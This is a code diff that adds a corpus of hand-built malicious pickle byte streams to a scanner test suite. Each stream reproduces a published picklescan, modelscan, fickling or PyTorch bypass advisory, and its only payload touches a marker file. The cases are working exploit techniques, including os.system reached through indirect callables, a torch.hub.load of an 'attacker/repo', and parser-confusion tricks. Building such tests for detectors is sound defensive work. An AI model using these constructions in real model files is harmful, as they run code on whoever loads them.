@@ -577,6 +577,193 @@ def build_corpus() -> list[Case]:
         PROTO(4) + FRAME(len(payload) + 1000)                     # frame claims more than exists
         + payload),
         "parser", OS_SYSTEM, error="structural", real=False, wellformed=False))
+    c += published_cases()
+    return c
+
+
+def _src(py: str) -> bytes:  # BINUNICODE of Python source
+    return BINUNICODE(py)
+
+
+def published_cases() -> list[Case]:
+    """Cases named after a published advisory or bypass write-up (picklescan, modelscan, fickling, torch).
+
+    Each reproduces the technique of the advisory it names, with the marker file as its only effect. ``real``
+    cases are proven live in CPython by test_malicious.test_payload_is_live_in_cpython.
+    """
+    c: list[Case] = []
+    add = c.append
+    import sys
+
+    # ---- callables a blocklist scanner did not know ------------------------------------------------------
+    add(Case("CVE-2025-1716 pip.main (picklescan)", (
+        PROTO(2)
+        + GLOBAL("pip", "main")                                        # pip.main
+        + EMPTY_LIST + MARK + BINUNICODE("list") + BINUNICODE("--log") + BINUNICODE(MARKER) + b"e"  # APPENDS
+        + TUPLE1 + REDUCE + STOP),                                     # pip.main(['list', '--log', 'MARKER'])
+        "unknown-callable", _refs("pip.main"), imports=("pip",)))
+    add(Case("GHSA-xp4f-hrf8-rxw7 ensurepip._run_pip (picklescan)", (
+        PROTO(2)
+        + GLOBAL("ensurepip", "_run_pip")                              # its args are pasted into python -c
+        + _src("[]\nopen('MARKER','w').close()\nimport sys; sys.exit(0)\n#") + TUPLE1
+        + REDUCE + STOP),
+        "unknown-callable", _refs("ensurepip._run_pip"), imports=("ensurepip",)))
+    add(Case("CVE-2025-10157 asyncio _UnixSubprocessTransport._start (picklescan)", (
+        PROTO(4)
+        + GLOBAL("asyncio.unix_events", "_UnixSubprocessTransport._start")   # a method reached by a dotted name
+        + MARK
+        + GLOBAL("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE    # self: any object with attributes
+        + BINUNICODE(TOUCH) + b"\x88" + NONE + NONE + NONE + BININT1(0)  # args, shell=True, stdin..., bufsize
+        + TUPLE + REDUCE + STOP),                                      # -> subprocess.Popen('touch MARKER', shell=True)
+        "unknown-callable", _refs("asyncio.unix_events._UnixSubprocessTransport._start"),
+        imports=("asyncio",)))
+    add(Case("GHSA-m273-6v24-x4m4 operator.attrgetter on __import__ (picklescan)", (
+        PROTO(2)
+        + GLOBAL("operator", "attrgetter") + BINUNICODE("system") + TUPLE1 + REDUCE  # attrgetter('system')
+        + GLOBAL("builtins", "__import__") + BINUNICODE("os") + TUPLE1 + REDUCE      # __import__('os')
+        + TUPLE1 + REDUCE                                              # -> os.system
+        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
+        "unknown-callable", _refs("operator.attrgetter", "_operator.attrgetter")))
+    add(Case("GHSA-955r-x9j8-7rhh _operator.methodcaller on code.InteractiveInterpreter (picklescan)", (
+        PROTO(2)
+        + GLOBAL("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE + BINPUT(0) + POP  # memo[0] = interp
+        + GLOBAL("_operator", "methodcaller")
+        + BINUNICODE("runsource") + _src(PY_OPEN) + TUPLE2 + REDUCE    # methodcaller('runsource', src)
+        + BINGET(0) + TUPLE1 + REDUCE + STOP),                         # ...(interp): runs the source
+        "unknown-callable", _refs("code.InteractiveInterpreter"), imports=("code",)))
+    add(Case("GHSA-v7x6-rv5q-mhwc timeit.timeit setup (picklescan)", (
+        PROTO(2)
+        + GLOBAL("timeit", "timeit")
+        + BINUNICODE("pass") + _src(PY_OPEN) + TUPLE2                  # timeit('pass', setup=<payload>)
+        + REDUCE + STOP),
+        "unknown-callable", _refs("timeit.timeit"), imports=("timeit",)))
+    add(Case("GHSA-7wx9-6375-f5wh cProfile.run (picklescan)", (
+        PROTO(2)
+        + GLOBAL("cProfile", "run") + _src(PY_OPEN) + TUPLE1 + REDUCE + STOP),
+        "unknown-callable", _refs("cProfile.run"), imports=("cProfile",)))
+    add(Case("GHSA-46h3-79wf-xr6c trace.Trace.run (picklescan)", (
+        PROTO(4)
+        + GLOBAL("trace", "Trace.run")                                 # unbound method, self built below
+        + GLOBAL("trace", "Trace") + EMPTY_TUPLE + REDUCE
+        + _src(PY_OPEN) + TUPLE2 + REDUCE + STOP),
+        "unknown-callable", _refs("trace.Trace.run"), imports=("trace",)))
+    add(Case("GHSA-vvpj-8cmc-gx39 pkgutil.resolve_name (picklescan)", (
+        PROTO(2)
+        + GLOBAL("pkgutil", "resolve_name") + BINUNICODE("os:system") + TUPLE1 + REDUCE  # -> os.system
+        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
+        "unknown-callable", _refs("pkgutil.resolve_name"), imports=("pkgutil",)))
+    add(Case("runpy._run_code with builtins.compile (modelscan/fickling unsafe imports)", (
+        PROTO(2)
+        + GLOBAL("runpy", "_run_code")
+        + GLOBAL("builtins", "compile") + _src(PY_OPEN) + BINUNICODE("x") + BINUNICODE("exec") + TUPLE3 + REDUCE
+        + EMPTY_DICT + TUPLE2 + REDUCE + STOP),
+        "unknown-callable", _refs("runpy._run_code")))
+    add(Case("CVE-2025-10155 distutils.file_util.write_file (picklescan)", (
+        PROTO(2)
+        + GLOBAL("distutils.file_util", "write_file") + BINUNICODE(MARKER) + EMPTY_LIST + TUPLE2
+        + REDUCE + STOP),
+        "unknown-callable", _refs("distutils.file_util.write_file"), real=sys.version_info < (3, 12),
+        imports=("distutils",)))
+    add(Case("GHSA-r8g5-cgf2-4m4m idlelib.pyshell (picklescan)", (
+        PROTO(4)
+        + GLOBAL("idlelib.pyshell", "ModifiedInterpreter.runcode")
+        + NONE + _src(PY_OPEN) + TUPLE2 + REDUCE + STOP),
+        "unknown-callable", _refs("idlelib.pyshell.ModifiedInterpreter.runcode"), real=False,
+        imports=("idlelib",)))
+    add(Case("fickling numpy.f2py.crackfortran._eval_length", (
+        PROTO(2)
+        + GLOBAL("numpy.f2py.crackfortran", "_eval_length") + _src(PY_SYSTEM) + EMPTY_DICT + TUPLE2
+        + REDUCE + STOP),
+        "unknown-callable", _refs("numpy.f2py.crackfortran._eval_length"), real=False))
+    add(Case("torch.load nested checkpoint (torch helper)", (
+        PROTO(2)
+        + GLOBAL("torch", "load") + BINUNICODE("evil.pt") + TUPLE1 + REDUCE + STOP),
+        "unknown-callable", _refs("torch.load"), real=False, imports=("torch",)))
+    add(Case("torch.utils.cpp_extension.load_inline (torch helper)", (
+        PROTO(2)
+        + GLOBAL("torch.utils.cpp_extension", "load_inline")
+        + BINUNICODE("m") + BINUNICODE("int x = system(\"touch MARKER\");") + TUPLE2 + REDUCE + STOP),
+        "unknown-callable", _refs("torch.utils.cpp_extension.load_inline"), real=False, imports=("torch",)))
+    add(Case("torch.hub.load (torch helper)", (
+        PROTO(2)
+        + GLOBAL("torch.hub", "load") + BINUNICODE("attacker/repo") + BINUNICODE("model") + TUPLE2
+        + REDUCE + STOP),
+        "unknown-callable", _refs("torch.hub.load"), real=False, imports=("torch",)))
+
+    # ---- _compat_pickle renames and dotted names ----------------------------------------------------------
+    add(Case("GHSA-84r2-jw7c-4r5q cPickle.loads nested pickle via rename", (
+        PROTO(2)
+        + GLOBAL("cPickle", "loads")                                   # -> pickle.loads
+        + SHORT_BINBYTES(GLOBAL("os", "system") + MARK + STRING(TOUCH) + TUPLE + REDUCE + STOP) + TUPLE1
+        + REDUCE + STOP),
+        "compat", _refs("pickle.loads", "cPickle.loads", "_pickle.loads")))
+    add(Case("__builtin__.getattr + __builtin__.__import__ renames", (
+        PROTO(2)
+        + GLOBAL("__builtin__", "getattr")
+        + GLOBAL("__builtin__", "__import__") + BINUNICODE("os") + TUPLE1 + REDUCE
+        + BINUNICODE("system") + TUPLE2 + REDUCE
+        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
+        "compat", _refs("builtins.getattr", "__builtin__.getattr")))
+    add(Case("GHSA-vvpj-8cmc-gx39 dotted builtins.__import__ via pkgutil module attr", (
+        PROTO(4)
+        + SG("pkgutil", "importlib.import_module")                     # pkgutil imports importlib
+        + SHORT_BINUNICODE("os") + TUPLE1 + REDUCE
+        + BINUNICODE("system") + TUPLE1 + b"\x86" + POP + STOP),
+        "dotted", _refs("pkgutil.importlib.import_module"), real=False))
+    add(Case("picklescan#22 STACK_GLOBAL names from a replaced memo slot", (
+        PROTO(4)
+        + SHORT_BINUNICODE("collections") + BINPUT(0)                  # memo[0] = 'collections' (what a scanner sees)
+        + SHORT_BINUNICODE("OrderedDict") + BINPUT(1) + POP + POP
+        + SHORT_BINUNICODE("os") + BINPUT(0) + POP                     # memo[0] replaced by 'os'
+        + SHORT_BINUNICODE("system") + BINPUT(1) + POP
+        + BINGET(0) + BINGET(1) + STACK_GLOBAL
+        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
+        "memo", OS_SYSTEM))
+    add(Case("INST subprocess check_output via _compat rename", (
+        MARK + MARK + STRING("touch") + STRING(MARKER) + LIST          # MARK ['touch', 'MARKER']
+        + INST("commands", "getstatusoutput") + STOP),                 # -> subprocess.getstatusoutput([...])
+        "inst-obj", _refs("subprocess.getstatusoutput", "commands.getstatusoutput"), real=False,
+        imports=("subprocess",)))
+    add(Case("OBJ with a memo-sourced class", (
+        PROTO(2)
+        + GLOBAL("os", "system") + BINPUT(3) + POP
+        + MARK + BINGET(3) + BINUNICODE(TOUCH) + OBJ + STOP),
+        "inst-obj", OS_SYSTEM))
+
+    # ---- parser confusion ---------------------------------------------------------------------------------
+    add(Case("GHSA-9gvj-pp9x-gcfr payload then bad UTF-8 (picklescan parsing flaw)", (
+        PROTO(2) + GLOBAL("os", "system") + BINUNICODE(TOUCH) + TUPLE1 + REDUCE
+        + b"X\x02\x00\x00\x00\xff\xfe" + STOP),                       # BINUNICODE of invalid UTF-8
+        "parser", OS_SYSTEM, error="structural", wellformed=False))
+    add(Case("payload pickle then benign pickle (two pickles concatenated)", (
+        PROTO(2) + GLOBAL("os", "system") + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + POP + NONE + STOP
+        + PROTO(2) + NONE + STOP),                                     # a second stream a scanner may read alone
+        "parser", OS_SYSTEM, error="structural"))
+    add(Case("PROTO opcode again mid-stream", (
+        PROTO(2) + GLOBAL("os", "system") + PROTO(4)                   # a second PROTO after the first opcode
+        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
+        "parser", OS_SYSTEM, error="structural"))
+    add(Case("FRAME around STOP then payload in the next frame", (
+        PROTO(4) + FRAME(2) + NONE + STOP                              # a reader that trusts frames stops here
+        + FRAME(len(payload_sg := SG("os", "system") + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP))
+        + payload_sg),
+        "parser", OS_SYSTEM, error="structural", real=False))
+
+    # ---- abuse of allowlisted helpers -------------------------------------------------------------------------
+    add(Case("CVE-2025-32434 _rebuild_from_type_v2 with memo-sourced func", (
+        PROTO(2)
+        + GLOBAL("posix", "system") + BINPUT(9) + POP
+        + GLOBAL("torch._utils", "_rebuild_from_type_v2")
+        + MARK + BINGET(9) + GLOBAL("collections", "OrderedDict") + BINUNICODE(TOUCH) + TUPLE1 + EMPTY_DICT
+        + TUPLE + REDUCE + STOP),
+        "abuse-helper", _refs("posix.system", "torch._utils._rebuild_from_type_v2"), real=False))
+    add(Case("CVE-2026-24747 SETITEMS applied to a non-dict (torch weights_only)", (
+        PROTO(2)
+        + GLOBAL("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + GLOBAL("builtins", "set")
+        + EMPTY_LIST + TUPLE1 + REDUCE                                 # set([])
+        + MARK + BINUNICODE("__class__") + GLOBAL("os", "system") + SETITEMS  # SETITEMS on a set
+        + STOP),
+        "build-injection", error="structural", real=False))
     return c
 
 
